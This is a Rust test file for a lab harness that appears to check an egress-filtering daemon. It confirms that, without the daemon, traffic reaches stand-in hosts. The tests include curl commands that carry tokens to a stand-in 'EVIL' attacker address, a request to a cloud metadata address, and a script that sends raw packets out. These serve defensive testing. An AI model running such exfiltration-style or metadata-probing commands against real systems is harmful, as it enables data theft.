//! The lab itself: without egressd everything arrives and is seen. A deny that is shown in it means something.

use std::{fs, time::Duration};

use lab::{DNS, EVIL, EVIL6, Entry, Inside, Lab, METADATA, OK, OK6, PROXY, need, until};

#[test]
fn traffic_without_egressd_arrives_and_is_counted() {
    let lab = Lab::new();
    lab.expect_silence(EVIL);
    let token = lab.token("plain");
    lab.unconfined(&format!("curl -fsS -m5 http://{EVIL}/{token} && curl -fsS -m5 'http://[{EVIL6}]/{token}'"))
        .exits(0);
    let hits = lab.expect_hits(&token, 2);
    assert_eq!((hits[0].src.ip(), hits[0].dst), (lab::BOX, (EVIL, 80).into()));
    assert_eq!(hits[0].request(), format!("GET /{token} HTTP/1.1"));
    let frames = lab.frames_to(EVIL);
    assert_eq!(frames.iter().filter(|frame| frame.is_syn() && frame.is_tcp(80)).count(), 1, "{frames:#?}");
    assert_eq!(frames.iter().filter(|frame| frame.carries(&token)).count(), 1, "{frames:#?}");
    assert!(!lab.frames_to(EVIL6.parse::<std::net::Ipv6Addr>().unwrap()).is_empty());
    lab.expect_silence(OK);
}

#[test]
fn the_capture_sees_every_kind_of_frame() {
    let lab = Lab::new();
    let script = format!(
        "import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'by-udp', ('{EVIL}', 4433))
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, 47)
raw.sendto(b'by-gre', ('{EVIL}', 0))
link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
link.bind(('eth0', 0))
link.send(b'\\xff' * 6 + b'\\x02' * 6 + b'\\x88\\xb5' + b'by-ether' + bytes(40))
socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'by-udp6', ('{EVIL6}', 4433))
"
    );
    let script = lab.file("frames.py", &script);
    lab.box_ns().sh(&format!("{} -I {}", lab::PYTHON, script.display())).exits(0);
    let frames = lab.frames();
    for (token, ethertype, protocol) in
        [("by-udp", 0x0800, 17), ("by-gre", 0x0800, 47), ("by-ether", 0x88b5, 0), ("by-udp6", 0x86dd, 17)]
    {
        let found = frames.iter().filter(|frame| frame.carries(token) && frame.ethertype == ethertype);
        assert!(found.clone().any(|frame| frame.protocol == protocol), "{token} in {frames:#?}");
    }
}

#[test]
fn the_zone_answers_as_scripted_and_logs_what_was_asked() {
    need("dig");
    let lab = Lab::new();
    let zone = lab.zone();
    zone.put("chain.test", Entry::alias("end.cdn.test").ttl(7));
    zone.put("end.cdn.test", Entry::at(&["198.51.100.11"]).ttl(9));
    zone.put("flaky.test", Entry::at(&["198.51.100.12"]).fails(1));
    zone.put("mute.test", Entry::at(&["198.51.100.12"]).silent());
    zone.put("late.test", Entry::at(&["198.51.100.12"]).after(Duration::from_millis(300)));
    zone.put("long.test", Entry::at(&["198.51.100.12"]).tcp_only());
    zone.put("stray.test", Entry::at(&["198.51.100.12"]).stray("evil.test", "198.51.100.20"));
    let ask = |server: &str, words: &str| {
        lab.unconfined(&format!("dig @{server} +tries=1 +time=1 +noall +comments +answer {words}"))
    };
    let dig = |words: &str| ask(&DNS.to_string(), words);
    dig("OK.test A").exits(0).says("NOERROR").says("198.51.100.10");
    dig("ok.test AAAA").exits(0).says("ANSWER: 0");
    dig("ok6.test AAAA").says(OK6);
    dig("nx.test A").says("NXDOMAIN");
    dig("chain.test A").says("end.cdn.test.").says("198.51.100.11");
    dig("flaky.test A").says("SERVFAIL");
    dig("flaky.test A").says("198.51.100.12");
    dig("mute.test A").exits(9);
    assert!(dig("late.test A").exits(0).took >= Duration::from_millis(300));
    dig("+ignore long.test A").says(" tc").says("ANSWER: 0");
    dig("long.test A").says("198.51.100.12");
    dig("stray.test A").says("evil.test.");
    ask(&lab::DNS2.to_string(), "+tcp ok.test A").says("198.51.100.10");
    ask("2001:db8::53", "ok.test A").says("198.51.100.10");
    let asked = zone.queries_for("ok.test");
    assert_eq!(asked.len(), 4, "{asked:?}");
    assert!(asked[2].tcp && asked[2].server.ip() == lab::DNS2 && asked[2].src.ip() == lab::BOX);
    assert_eq!(zone.queries_for("long.test").iter().filter(|query| query.tcp).count(), 1);
}

#[test]
fn https_shows_the_server_name_and_its_own_certificate() {
    let lab = Lab::new();
    let (certificate, token) = (lab.https().display(), lab.token("tls"));
    let at = format!("--resolve ok.test:443:{OK} https://ok.test/{token}");
    lab.unconfined(&format!("curl -sS -m5 {at}")).exits(60);
    lab.unconfined(&format!("curl -fsS -m5 --cacert {certificate} {at} -d body")).exits(0).says("sink 198.51.100.10");
    let hits = lab.expect_hits(&token, 1);
    assert_eq!(
        (hits[0].sni.as_deref(), hits[0].dst, hits[0].body()),
        (Some("ok.test"), (OK, 443).into(), &b"body"[..])
    );
}

#[test]
fn squid_lets_through_what_it_was_told() {
    let lab = Lab::new();
    let certificate = lab.https().display();
    let _squid = lab.squid(&["ok.test"]);
    let token = lab.token("proxied");
    let through =
        format!("curl -sS -m9 -x http://{PROXY}:3128 --cacert {certificate} -o /dev/null -w '%{{http_code}}\\n'");
    let said = lab.unconfined(&format!(
        "{through} http://ok.test/{token}; {through} https://ok.test/{token}; {through} http://evil.test/{token}"
    ));
    assert_eq!(said.stdout, "200\n200\n403\n", "{said}");
    let hits = lab.expect_hits(&token, 2);
    assert!(hits.iter().all(|hit| hit.src.ip() == PROXY && hit.dst.ip() == OK), "{hits:?}");
    assert!(lab.frames_to(OK).iter().all(|frame| frame.src != lab::BOX), "the box went around the proxy");
}

#[test]
fn metadata_and_other_boxes_are_there_to_be_reached() {
    let lab = Lab::new();
    let other = lab.another_box(31);
    let token = lab.token("meta");
    lab.unconfined(&format!("curl -fsS -m5 http://{METADATA}/{token}")).exits(0);
    other.sh(&format!("curl -fsS -m5 http://{OK}:8080/{token}")).exits(0);
    let hits = lab.expect_hits(&token, 2);
    assert_eq!((hits[0].dst.ip(), hits[1].src.ip().to_string()), (METADATA, "198.51.100.31".to_owned()));
}

#[test]
fn two_labs_at_once_do_not_meet() {
    let one = Lab::new();
    let (there, token) = std::thread::scope(|scope| {
        let two = scope.spawn(|| {
            let lab = Lab::new();
            let token = lab.token("two");
            lab.unconfined(&format!("curl -fsS -m5 http://{OK}/{token}")).exits(0);
            lab.expect_hits(&token, 1);
            lab.frames_to(EVIL).len()
        });
        let token = one.token("one");
        one.unconfined(&format!("curl -fsS -m5 http://{EVIL}/{token}")).exits(0);
        (two.join().unwrap(), token)
    });
    assert_eq!(there, 0, "frames of one lab in the other");
    one.expect_hits(&token, 1);
    one.expect_silence(OK);
}

#[test]
fn nothing_is_left_behind() {
    let (directory, cgroup) = {
        let lab = Lab::new();
        let mut sleeper = lab.box_ns().command("sleep");
        sleeper.arg("600");
        let group = lab.cgroup().child("group");
        group.place(&mut sleeper);
        let mut sleeper = sleeper.spawn().unwrap();
        until(Duration::from_secs(5), "the sleeper is in its cgroup", || group.is_populated());
        let mount = lab.directory().join("mount");
        fs::create_dir(&mount).unwrap();
        lab.outer_ns().sh(&format!("mount -t tmpfs lab {}", mount.display())).exits(0);
        assert!(!lab.snapshot().lines("mount /run/").is_empty());
        let places = (lab.directory().to_owned(), lab.cgroup().path().to_owned());
        drop(lab);
        assert!(!sleeper.wait().unwrap().success());
        places
    };
    assert!(!directory.exists() && !cgroup.exists(), "{} {}", directory.display(), cgroup.display());
    assert!(!fs::read_to_string("/proc/self/mountinfo").unwrap().contains(directory.to_str().unwrap()));
}

#[test]
fn a_snapshot_tells_what_was_added() {
    let lab = Lab::new();
    let before = lab.snapshot();
    assert_eq!(before.diff(&lab.snapshot()), Vec::<String>::new());
    let _more = lab.cgroup().child("more");
    lab.outer_ns().sh("tc qdisc add dev box0 clsact").exits(0);
    let added = before.diff(&lab.snapshot());
    assert_eq!(added.len(), 2, "{added:?}");
    assert!(added.iter().all(|line| line.starts_with("+ ")), "{added:?}");
}

#[test]
#[should_panic(expected = "frames where none may come")]
fn a_leak_fails_the_test() {
    let lab = Lab::new();
    lab.unconfined(&format!("curl -s -m2 http://{EVIL}:81/")).exits(7);
    lab.expect_silence(EVIL);
}

#[test]
#[should_panic(expected = "run `cargo xtask setup`")]
fn a_missing_tool_fails_the_test() {
    need("no-such-tool");
}

#[test]
fn the_command_server_answers() {
    let lab = Lab::new();
    let mut inside = Inside::beside(&lab);
    let slow = inside.begin("read line < /proc/self/comm; echo $line; exit 3");
    inside.ask("echo out; echo err >&2; kill -9 $$").says("out").says("err");
    assert_eq!(inside.answer(slow).code, Some(3));
    assert_eq!(inside.ask("kill -9 $$").signal, Some(9));
    inside.end().exits(0);
}
